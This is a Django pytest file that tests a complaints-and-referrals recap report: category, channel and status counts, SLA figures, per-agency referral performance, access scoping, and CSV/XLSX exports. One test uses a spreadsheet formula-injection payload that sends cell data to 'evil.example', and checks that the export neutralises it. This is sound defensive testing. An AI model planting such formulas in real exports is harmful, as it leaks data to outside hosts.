"""The complaints and referrals recap of a period: counts by category, channel and status, SLA
compliance, median days to close, performance per agency; within the requester's scope; its
figures as CSV and XLSX."""

import csv as csv_module
import datetime
import io
import re

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone, translation

from complaints.models import Category, Complaint
from referrals import services as referral_services
from referrals.models import Referral
from reports.models import ReportStatus, ReportType
from tests.complaints.factories import category
from tests.conftest import KRANGGAN, WATES
from tests.factories import PersonFactory
from tests.referrals.conftest import draft
from tests.referrals.factories import service_with_details

from .conftest import pdf_text

pytestmark = pytest.mark.django_db
RECAP = ReportType.SERVICE_RECAP
MARCH = {"period_start": datetime.date(2026, 3, 1), "period_end": datetime.date(2026, 3, 31)}
ZONE = timezone.get_current_timezone()


def at(day, hour=9):
    return datetime.datetime(2026, *day, hour, tzinfo=ZONE)


def complaint(number, region, top, channel, status, received, due, finished=None, sub=None):
    cat = Category.objects.get(parent=top, name=sub) if sub else top
    return Complaint.objects.create(
        ticket_number=f"ADU-2026-{number:06d}",
        region_id=region,
        category=cat,
        channel=channel,
        status=status,
        received_at=received,
        due_date=due,
        finished_at=finished,
        description="-",
        closing_reason="Selesai" if finished else "",
    )


def referral(users, person, service, status, sent, due, finished=None):
    """A referral made, sent and worked through the referral services, then moved back to March."""
    made = referral_services.referral_send(
        draft(users["manajer"], service, person=person), acting_user=users["manajer"]
    )
    agency_officer = users["dinkes"] if service.agency.code == "dinkes" else users["disdukcapil"]
    steps = {"dikirim": [], "selesai": ["diterima", "selesai"], "ditolak": ["ditolak"]}[status]
    for step in steps:
        made = referral_services.referral_change_status(made, to_status=step, note="Hasil", acting_user=agency_officer)
    Referral.objects.filter(pk=made.pk).update(sent_at=sent, due_date=due, finished_at=finished)


@pytest.fixture
def services_data(users, dinkes, disdukcapil):
    health, other = category("Kesehatan/BPJS PBI"), category("Pendidikan")
    complaint(
        1, WATES, health, "datang", "selesai", at((3, 2)), datetime.date(2026, 3, 10), at((3, 4))
    )  # 2 days, on time
    complaint(
        2,
        WATES,
        health,
        "telepon",
        "ditutup",
        at((3, 3)),
        datetime.date(2026, 3, 10),
        at((3, 20)),
        sub="Biaya rumah sakit",
    )  # 17, late
    complaint(3, WATES, other, "online", "baru", at((3, 20)), datetime.date(2026, 3, 31))  # open, late
    complaint(4, KRANGGAN, other, "datang", "asesmen", at((3, 30)), datetime.date(2099, 1, 1))  # open, on time
    complaint(5, WATES, other, "datang", "baru", at((2, 28)), datetime.date(2026, 3, 9))  # February: not in the period
    pbi, ktp = service_with_details(dinkes, "Pendaftaran PBI-JK"), service_with_details(disdukcapil, "Perekaman KTP-el")
    someone = PersonFactory(region_id=WATES, status="verified")
    referral(users, someone, pbi, "selesai", at((3, 5)), datetime.date(2026, 3, 12), at((3, 8)))  # 3 days, on time
    referral(users, someone, pbi, "selesai", at((3, 6)), datetime.date(2026, 3, 13), at((3, 26)))  # 20 days, late
    referral(users, someone, pbi, "dikirim", at((3, 10)), datetime.date(2026, 3, 20))  # open, overdue
    referral(users, someone, ktp, "ditolak", at((3, 7)), datetime.date(2026, 3, 12), at((3, 9)))
    draft(users["manajer"], ktp, person=someone)  # a draft: not sent, not counted


def office(text):
    """A title as the report stores it: in the office language it is rendered in."""
    with translation.override(settings.LANGUAGE_CODE):
        return translation.gettext(text)


def rows(report, title):
    table = next(t for t in report.data["tables"] if t["title"] == office(title))
    return {row[0]: row[1:] for row in table["rows"]}


def test_the_recap_counts_complaints_by_category_channel_status_and_sla(users, services_data, render):
    report = render(users["manajer"], RECAP, regions=["35.76"], **MARCH)
    assert report.status == ReportStatus.READY, report.error
    assert rows(report, "Complaints by category") == {"Kesehatan/BPJS PBI": [2], "Pendidikan": [2]}
    # Channels in their order: walk-in 2, phone 1, message 0, online 1, outreach 0, RT/RW 0.
    assert [v[0] for v in rows(report, "Complaints by channel").values()] == [2, 1, 0, 1, 0, 0]
    assert [v[0] for v in rows(report, "Complaints by status").values()] == [
        1,
        1,
        0,
        1,
        1,
    ]  # new, assessment, referred, resolved, closed
    assert [v[0] for v in rows(report, "Complaints and their SLA").values()] == [
        1,
        1,
        1,
        0,
        1,
    ]  # finished on time, late; open on time, at risk, late
    text = pdf_text(report)
    assert re.search(r"4 (complaints received|pengaduan diterima)", text)
    assert "50.0%" in text or "50,0%" in text  # one of the two finished kept its SLA
    assert "9.5" in text or "9,5" in text  # median of 2 and 17 days to close


def test_the_recap_has_the_performance_of_each_agency(users, services_data, render):
    report = render(users["manajer"], RECAP, regions=["35.76"], **MARCH)
    agencies = rows(report, "Referrals per agency")
    #                       sent, completed, rejected/redirected, open, overdue, on time %, median days
    assert agencies["Dinas Kesehatan"] == [3, 2, 0, 1, 1, 50.0, 11.5]
    assert agencies["Disdukcapil"] == [1, 0, 1, 0, 0, None, None]
    text = pdf_text(report)
    assert re.search(r"Dinas\s+Kesehatan\s+3\s+2\s+0\s+1\s+1\s+50[.,]0\s+11[.,]5", text)


def test_a_kelurahan_officer_sees_the_complaints_of_their_kelurahan(users, services_data, render):
    report = render(users["kel.wates"], RECAP, **MARCH)
    assert sum(v[0] for v in rows(report, "Complaints by category").values()) == 3  # not the one in Kranggan


def test_an_agency_officer_sees_only_the_referrals_sent_to_their_agency(users, services_data, render):
    report = render(users["dinkes"], RECAP, **MARCH)
    assert [t["title"] for t in report.data["tables"]] == [office("Referrals per agency")]
    assert list(rows(report, "Referrals per agency")) == ["Dinas Kesehatan"]
    text = pdf_text(report)
    assert "Disdukcapil" not in text and "ADU-" not in text


def test_the_figures_download_as_csv_and_xlsx_and_are_audited(users, services_data, render, client_for):
    from openpyxl import load_workbook

    from onegate.audit.models import LogEntry

    report = render(users["manajer"], RECAP, regions=["35.76"], **MARCH)
    client = client_for(users["manajer"])
    csv = client.get(reverse("reports:figures", args=[report.pk, "csv"]))
    assert csv.status_code == 200 and csv["Content-Type"].startswith("text/csv")
    text = csv.content.decode("utf-8-sig")
    assert office("Referrals per agency") + "\r\n" in text and "Dinas Kesehatan,3,2,0,1,1,50.0,11.5" in text
    xlsx = client.get(reverse("reports:figures", args=[report.pk, "xlsx"]))
    book = load_workbook(io.BytesIO(xlsx.content))
    assert len(book.sheetnames) == len(report.data["tables"]) == 5
    sheet = book[book.sheetnames[-1]]
    assert [c.value for c in sheet[2]][:3] == ["Dinas Kesehatan", 3, 2]
    assert LogEntry.objects.filter(object_pk="export", additional_data__filters__report=report.pk).count() == 2
    # Someone outside the report's scope gets nothing.
    assert client_for(users["kel.wates"]).get(reverse("reports:figures", args=[report.pk, "csv"])).status_code == 404


def test_the_figures_write_a_name_typed_as_a_formula_as_text(users, services_data, render, client_for, dinkes):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
    dinkes.name = formula
    dinkes.save()
    report = render(users["manajer"], RECAP, regions=["35.76"], **MARCH)
    client = client_for(users["manajer"])
    text = client.get(reverse("reports:figures", args=[report.pk, "csv"])).content.decode("utf-8-sig")
    cells = [row[0] for row in csv_module.reader(io.StringIO(text)) if row]
    assert "'" + formula in cells and formula not in cells
    book = load_workbook(io.BytesIO(client.get(reverse("reports:figures", args=[report.pk, "xlsx"])).content))
    cell = next(c for c in book[book.sheetnames[-1]]["A"] if c.value == formula)
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_recap_form_asks_for_a_period(users, client_for, monkeypatch):
    from reports import services

    monkeypatch.setattr(services, "enqueue", lambda pk: None)
    url = reverse("reports:new", args=[RECAP])
    client = client_for(users["manajer"])
    page = client.get(url)
    assert 'name="period_start"' in page.text and 'name="area"' in page.text
    response = client.post(url, {"period_start": "31/03/2026", "period_end": "01/03/2026", "area": "35.76"})
    assert response.status_code == 200 and "error-summary" in response.text
    response = client.post(url, {"period_start": "01/03/2026", "period_end": "31/03/2026", "area": "35.76"})
    assert response.status_code == 302
    page = client_for(users["dinkes"]).get(url)
    assert 'name="area"' not in page.text  # an agency's recap is its referrals, wherever people live
